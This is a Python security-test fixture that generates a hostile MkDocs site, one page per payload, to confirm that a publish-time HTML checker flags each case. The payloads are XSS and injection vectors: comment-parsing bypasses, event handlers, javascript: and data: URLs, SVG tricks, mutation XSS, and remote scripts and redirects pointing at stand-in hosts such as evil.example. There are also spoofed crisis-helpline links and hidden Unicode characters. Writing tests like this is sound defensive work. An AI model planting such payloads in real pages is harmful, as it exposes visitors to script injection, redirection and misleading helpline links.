"""A small Material site with one page per hostile payload, built once by the security tests.

Only our security hook runs (no content checks before rendering), so every payload reaches the
rendered page and the published-HTML check (iopguide.security.published) is the only thing that
can refuse it. Each case names the rule and the line of the page's Markdown it must report.
"""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path

from iopguide import ROOT


@dataclass(frozen=True)
class Case:
    name: str
    body: str
    rules: tuple[str, ...]
    #: Line of the page (front matter included) the first rule must name; None: file only.
    line: int | None = 6
    #: The front matter's description line, when the payload is there.
    description: str = 'description: "A page of the hostile test site."'


FRONT = """---
title: "{name}"
{description}
---
# {name}
"""

CASES = [
    # The three bypasses of the Markdown-side check named in issue 12.
    Case(
        "comment-abrupt",
        "<!--> <script>alert(1)</script> -->",
        ("html-comment", "csp-inline-script"),
    ),
    Case(
        "comment-abrupt-dash",
        "<!---> <script>alert(1)</script> -->",
        ("html-comment", "csp-inline-script"),
    ),
    # Python-Markdown closes this comment itself; the script after it is caught.
    Case(
        "comment-bang-close", "<!-- note --!> <script>alert(1)</script> -->", ("csp-inline-script",)
    ),
    Case(
        "comment-unclosed",
        "<div>\n<!-- never closed: it hides the rest of the page\n</div>",
        ("html-comment",),
        7,
    ),
    Case("escaped-backtick", "Text \\`<script>alert(1)</script>\\` text.", ("csp-inline-script",)),
    Case("fake-fence", "```!\n<script>alert(1)</script>\n```", ("csp-inline-script",), 7),
    Case(
        "style-behind-comment",
        "<!--><style>.admonition.danger{display:none!important}</style>-->",
        ("html-comment", "csp-inline-style"),
    ),
    Case(
        "meta-refresh",
        '<meta http-equiv="refresh" content="0;url=https://elsewhere.example">',
        ("unsafe-html",),
    ),
    Case("meta-referrer", '<meta name="referrer" content="unsafe-url">', ("unsafe-html",)),
    Case("unquoted-onerror", "<img src=x onerror=alert(1) alt=x>", ("csp-inline-handler",)),
    Case("uppercase-script", "<SCRIPT>alert(1)</SCRIPT>", ("csp-inline-script",)),
    Case(
        "script-src-elsewhere",
        '<script src="https://evil.example/x.js"></script>',
        ("csp-script-src",),
    ),
    # A script file copied from docs/ is not one of the theme's.
    Case("script-src-docs-file", '<script src="../own.js"></script>', ("csp-script-src",)),
    Case(
        "handler-split-over-lines",
        '<p><a href="https://www.samhsa.gov/"\n   ONCLICK="alert(1)">SAMHSA</a></p>',
        ("csp-inline-handler",),
    ),
    Case(
        "attr-list-handler",
        '[SAMHSA](https://www.samhsa.gov/){ onclick="alert(1)" }',
        ("csp-inline-handler",),
    ),
    Case(
        "style-attribute-unquoted",
        "<p style=display:none>Hidden words</p>",
        ("csp-style-attribute",),
    ),
    Case(
        "svg-animate-href",
        '<svg><a><animate attributeName=href values="javascript:alert(1)"/>'
        '<text x="20" y="20">Open</text></a></svg>',
        ("unsafe-html",),
    ),
    Case(
        "svg-set-href",
        '<svg><set attributeName="xlink:href" to="https://evil.example/"/></svg>',
        ("unsafe-html",),
    ),
    Case(
        "svg-xlink-javascript",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        ("unsafe-url",),
    ),
    Case(
        "data-url-link",
        "[Get help](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        ("unsafe-url",),
    ),
    Case(
        "data-url-image",
        '<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="A drawing">',
        ("unsafe-url",),
    ),
    Case(
        "javascript-entity-tab", '<a href="jav&#x09;ascript:alert(1)">Get help</a>', ("unsafe-url",)
    ),
    Case("vbscript-link", '<a href="VBScript:msgbox(1)">Get help</a>', ("unsafe-url",)),
    Case("formaction", '<button formaction="javascript:alert(1)">Go</button>', ("unsafe-url",)),
    Case("iframe", '<iframe src="https://elsewhere.example/"></iframe>', ("unsafe-html",)),
    Case("object", '<object data="https://elsewhere.example/a.swf"></object>', ("unsafe-html",)),
    Case("embed", '<embed src="https://elsewhere.example/a.swf">', ("unsafe-html",)),
    Case(
        "form",
        '<form action="https://elsewhere.example/"><input name="q"></form>',
        ("unsafe-html",),
    ),
    Case("base", '<base href="https://elsewhere.example/">', ("unsafe-html",)),
    Case(
        "link-preload",
        '<link rel=preload as=image href="https://tracker.example/p.png">',
        ("unsafe-html",),
    ),
    Case(
        "cdata-bogus-comment",
        "<![CDATA[><script>alert(1)</script>]]>",
        ("html-comment", "csp-inline-script"),
    ),
    Case(
        "processing-instruction",
        "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
        ("html-comment",),
    ),
    Case(
        "textarea-hides-script",
        "<textarea><!--</textarea><script>alert(1)</script>--></textarea>",
        ("unsafe-html", "csp-inline-script"),
    ),
    Case("title-odd-end", "<title>x</title foo><script>alert(1)</script>", ("unsafe-html",)),
    Case(
        "config-hijack",
        '<script id="__config" type="application/json">{"base": "https://evil.example/"}</script>',
        ("csp-inline-script",),
    ),
    Case("theme-id-reused", "## Search {#__search}", ("unsafe-html",), None),
    Case(
        "link-ping",
        '<a href="https://findtreatment.gov/" ping="https://tracker.example/">Find</a>',
        ("unsafe-html",),
    ),
    # The redirect script of mkdocs-redirects, outside a redirect page: not swapped, refused.
    Case(
        "fake-redirect-script",
        '<script>var anchor=window.location.hash.substr(1);location.href="https://evil.example/"</script>',
        ("csp-inline-script",),
    ),
    Case("noscript", "<noscript><p>Only without scripts</p></noscript>", ("unsafe-html",)),
    Case("javascript-link", "[Get help](javascript:alert(1))", ("unsafe-url",)),
    Case(
        "math-mutation",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        ("unsafe-html", "csp-inline-handler"),
    ),
    Case(
        "description-injection",
        "Words.",
        ("csp-inline-script",),
        3,
        'description: "x\\"><script>alert(1)</script>"',
    ),
    Case("tel-mismatch", "[1-800-662-4357](tel:+18006624358)", ("tel-mismatch",)),
    Case("tel-unknown", "[SAMHSA helpline](tel:+18006624358)", ("tel-unknown",)),
    Case("sms-unknown", "[Text us](sms:+15555550100)", ("tel-unknown",)),
    Case("link-host-mismatch", "[samhsa.gov](https://evil.example/)", ("link-host-mismatch",)),
    Case(
        "link-host-mismatch-url",
        "[https://988lifeline.org](https://988lifeline.example/)",
        ("link-host-mismatch",),
    ),
    Case("bidi-override", "Call 988 \u202eenil siht\u202c now.", ("hidden-characters",)),
    Case("zero-width", "SAM\u200bHSA helpline", ("hidden-characters",)),
    Case("http-link", "[FindTreatment.gov](http://findtreatment.gov/)", ("http-link",)),
    # Material's documented emoji setting renders :smile: as an image from a CDN.
    Case(
        "third-party-image",
        "![A smile](https://cdn.jsdelivr.net/gh/jdecked/twemoji@15/assets/svg/1f604.svg)",
        ("third-party-request",),
    ),
    Case(
        "third-party-srcset",
        '<img src="assets/logo.svg" srcset="//tracker.example/pixel.png 2x" alt="Logo">',
        ("third-party-request",),
    ),
]

#: A page with nothing wrong: a comment (removed on publishing) and the crisis links.
CLEAN = """
<!-- allow-term: nothing; a note for editors -->
Call [988](tel:988) or [text 988](sms:988), or the SAMHSA helpline at
[1-800-662-4357](tel:+18006624357). See [FindTreatment.gov](https://findtreatment.gov/).
"""


STATIC = """<!doctype html>
<html><head><title>Static</title></head>
<body><p>Hi</p><script>alert(1)</script></body></html>
"""


def make_site(dest: Path) -> Path:
    """Write the hostile site into ``dest`` and return it."""
    docs = dest / "docs"
    docs.mkdir(parents=True)
    shutil.copy2(ROOT / "crisis-lines.yml", dest / "crisis-lines.yml")
    hook = (ROOT / "overrides" / "hooks" / "security.py").as_posix()
    overrides = (ROOT / "overrides").as_posix()
    (dest / "mkdocs.yml").write_text(
        "site_name: Hostile fixture\n"
        "site_url: https://iop.example/\n"
        f"theme:\n  name: material\n  custom_dir: {overrides}\n  font: false\n"
        f"hooks:\n  - {hook}\n"
        "markdown_extensions:\n  - attr_list\n  - md_in_html\n  - admonition\n"
        "  - pymdownx.superfences\n",
        encoding="utf-8",
    )
    # An HTML file copied as it is (issue 12: published with no CSP at all).
    (docs / "static.html").write_text(STATIC, encoding="utf-8")
    (docs / "own.js").write_text("document.body.hidden = true;\n", encoding="utf-8")
    (docs / "index.md").write_text(
        FRONT.format(name="clean", description=CASES[0].description) + CLEAN, encoding="utf-8"
    )
    for case in CASES:
        (docs / f"{case.name}.md").write_text(
            FRONT.format(name=case.name, description=case.description) + case.body + "\n",
            encoding="utf-8",
        )
    return dest
